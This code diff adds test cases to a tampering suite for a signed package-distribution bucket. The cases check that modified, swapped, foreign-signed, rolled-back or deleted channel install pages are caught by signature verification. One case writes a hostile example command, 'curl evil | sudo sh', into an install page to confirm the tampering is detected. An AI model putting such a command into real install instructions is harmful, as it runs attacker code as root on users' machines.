@@ -1,6 +1,7 @@
 import { Metadata, MetadataKind } from "@tufjs/models";
 import { metaOf, type SignedPart, signedText } from "../../packaging/channels/metadata.ts";
 import { sha256 } from "../../packaging/digest.ts";
+import { signedPage } from "../../packaging/page/page-signature.ts";
 import { keyringBytes } from "../../packaging/signing/keyring.ts";
 import type { Ed25519Signer } from "../../packaging/signing/signer.ts";
 import { keyring, type Owner } from "./published-bucket.ts";
@@ -39,6 +40,9 @@ const inventory = `releases/alpha/1.1.0/inventory/alpha_1.1.0_amd64.deb.json`;
 const packages = "dists/dev/main/binary-amd64/Packages";
 const roleInForce = "tuf/2.alpha-dev.json";
 const entry = /^channels\/alpha\/[0-9a-f]{64}\.stable\.json$/;
+const page = "channels/alpha-dev.html";
+const stablePage = "channels/alpha-stable.html";
+const unsigned = /is no page of its place that a key of the bucket signed/;
 const certificate = /^keys\/[0-9A-F]{40}\.asc$/;
 
 /** Every kind of object, altered, removed, swapped, replayed, or replaced by one that somebody else signed. */
@@ -313,6 +317,40 @@ export const tamperings: readonly Tampering[] = [
     path: at(packages),
     says: /its record names otherwise/,
   },
+  { name: "a letter of the index of pages", act: (b) => b.flip("index.html"), path: at("index.html"), says: unsigned },
+  {
+    name: "another command to type on a page",
+    act: (b) => b.write(page, b.text(page).replace("sudo apt install", "curl evil | sudo sh ;")),
+    path: at(page),
+    says: unsigned,
+  },
+  {
+    name: "the page of another channel",
+    act: (b) => b.write(page, b.read(stablePage)),
+    path: at(page),
+    says: unsigned,
+  },
+  {
+    name: "a page that a foreign key signed",
+    act: async (b, { own }) => b.write(page, await signedPage(withoutSignature(b.text(page)), own.archive, now)),
+    path: at(page),
+    says: unsigned,
+  },
+  {
+    name: "a page by the stolen key, of a move that is not in force",
+    act: async (b, { stolen }) => {
+      const text = withoutSignature(b.text(page)).replace(/(slipway-serial" content=")2/, "$13");
+      await b.write(page, await signedPage(text, stolen.archive, now));
+    },
+    path: at(page),
+    says: /is of serial 3, and 2 is in force: an older one was put back/,
+  },
+  {
+    name: "a page removed",
+    act: (b) => b.remove(page),
+    path: at(page),
+    says: /is missing, and index\.html links to it/,
+  },
   {
     name: "an extra file of a suite",
     act: (b) => b.write("dists/dev/main/binary-amd64/Packages.xz", "evil"),
@@ -334,6 +372,10 @@ const now = Date.parse("2026-11-22T11:00:00Z") / 1000;
 
 function byHash(bucket: TamperedBucket): string {
   return `dists/dev/main/binary-amd64/by-hash/SHA256/${sha256(bucket.read(packages))}`;
+}
+
+function withoutSignature(page: string): string {
+  return page.slice(0, page.lastIndexOf("<!--"));
 }
 
 function timestampOf(
